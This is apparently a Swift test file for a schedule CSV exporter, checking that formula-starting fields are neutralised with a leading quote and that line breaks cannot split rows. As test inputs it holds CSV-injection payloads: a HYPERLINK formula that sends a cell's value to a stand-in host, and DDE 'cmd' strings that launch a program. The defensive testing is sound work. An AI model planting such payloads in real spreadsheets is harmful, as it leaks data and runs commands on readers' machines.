import Arsplan
import Foundation
import Testing

@testable import ArsplanReport

@Suite("CSV: spreadsheet-safe fields")
struct CSVEscapingTests {
    @Test(arguments: [
        // OWASP: a leading = + - @ tab or CR is a formula: a single quote in front, quoted.
        (#"=HYPERLINK("https://evil.example/?"&A1,"Klicka")"#, #""'=HYPERLINK(""https://evil.example/?""&A1,""Klicka"")""#),
        ("+cmd|' /C calc'!A0", #""'+cmd|' /C calc'!A0""#),
        ("-2+3+cmd|' /C calc'!A0", #""'-2+3+cmd|' /C calc'!A0""#),
        ("@SUM(1+1)*cmd|' /C calc'!A0", #""'@SUM(1+1)*cmd|' /C calc'!A0""#),
        ("\t=1+1", "\"'\t=1+1\""),
        ("\r=1+1", "\"'\r=1+1\""),
        // A plain number cannot hide a formula and stays a number.
        ("-5", "-5"),
        ("+46", "+46"),
        ("-1.5", "-1.5"),
        ("-1,5", "\"-1,5\""),
        // Dates, times and text with a sign inside are left alone.
        ("2027-01-05", "2027-01-05"),
        ("2027-01-05T09:00", "2027-01-05T09:00"),
        ("Lön - pension", "Lön - pension"),
        ("Anna=Berg", "Anna=Berg"),
        // CR, LF and CRLF (one Swift Character) are quoted: no row is split.
        ("Anna\r\nBerg", "\"Anna\r\nBerg\""),
        ("Anna\rBerg", "\"Anna\rBerg\""),
        ("Anna\nBerg", "\"Anna\nBerg\""),
        ("a, b", "\"a, b\""),
        // A quote followed by a combining mark is one Character but still a quote.
        ("a\"\u{301}b", "\"a\"\"\u{301}b\""),
    ])
    func fields(input: String, expected: String) {
        #expect(ScheduleCSV.field(input, ",") == expected)
        // Appended to a row: the same bytes, copied as they are or through `field`.
        for (separator, byte) in [(",", UInt8(ascii: ",")), (";", UInt8(ascii: ";"))] as [(Character, UInt8)] {
            var out: [UInt8] = []
            ScheduleCSV.appendField(input, separator, byte: byte, to: &out)
            #expect(out == Array(ScheduleCSV.field(input, separator).utf8))
        }
    }

    /// The rows as they are written (cells made once per activity, bytes appended) against
    /// the rows as they were written (made cell by cell, per occurrence): hostile text, every
    /// separator and Excel's form, an occurrence whose activity is no longer in the plan.
    @Test(arguments: [",", ";", "\t", "-", "ö"] as [Character], [false, true])
    func rowsAreWhatTheyWereRowByRow(separator: Character, excel: Bool) {
        let hostile = Scheduler.schedule(hostilePlan(title: "=HYPERLINK(\"x\")\r\nfalsk rad,=1; \"-2\"", owner: "@Anna\r\n+Berg"))
        var orphaned = hostile
        orphaned.plan.activities.removeFirst()
        for schedule in [hostile, orphaned] {
            #expect(
                ScheduleCSV.render(schedule, separator: separator, excel: excel)
                    == ScheduleCSV.renderByRows(schedule, separator: separator, excel: excel))
        }
        #expect(ScheduleCSV.render(hostile, excel: excel).contains("\r\n"))
    }

    @Test func theSeparatorDecidesWhatIsQuoted() {
        #expect(ScheduleCSV.field("-1,5", ";") == "-1,5")
        #expect(ScheduleCSV.field("a;b", ";") == "\"a;b\"")
        #expect(ScheduleCSV.field("a,b", ";") == "a,b")
    }

    @Test func aHostilePlanGivesOneRowPerOccurrenceAndNoFormula() {
        let schedule = Scheduler.schedule(hostilePlan(title: "=HYPERLINK(\"x\")\r\nfalsk rad,=1", owner: "@Anna\r\n+Berg"))
        let csv = ScheduleCSV.render(schedule)
        // Split into records the way a spreadsheet does: CRLF outside quotes ends a record.
        var records: [[String]] = [[]]
        var field = ""
        var quoted = false
        var scalars = Array(csv.unicodeScalars)[...]
        while let c = scalars.popFirst() {
            if quoted {
                if c == "\"" {
                    if scalars.first == "\"" {
                        field.unicodeScalars.append(scalars.removeFirst())
                    } else {
                        quoted = false
                    }
                } else {
                    field.unicodeScalars.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                records[records.count - 1].append(field)
                field = ""
            } else if c == "\r" && scalars.first == "\n" {
                scalars.removeFirst()
                records[records.count - 1].append(field)
                field = ""
                records.append([])
            } else {
                field.unicodeScalars.append(c)
            }
        }
        records.removeLast()
        #expect(records.count == 1 + schedule.occurrences.count)
        #expect(records.allSatisfy { $0.count == ScheduleCSV.header.count })
        for record in records.dropFirst() {
            for cell in record { #expect(!["=", "+", "@"].contains(cell.first.map(String.init) ?? ""), "\(cell)") }
        }
        let namnd = records.first { $0[1] == "namnd" }!
        #expect(namnd[3] == "'=HYPERLINK(\"x\")\r\nfalsk rad,=1")
        #expect(namnd[4] == "'=1+1")
        #expect(namnd[8] == "'@Anna\r\n+Berg")
    }
}
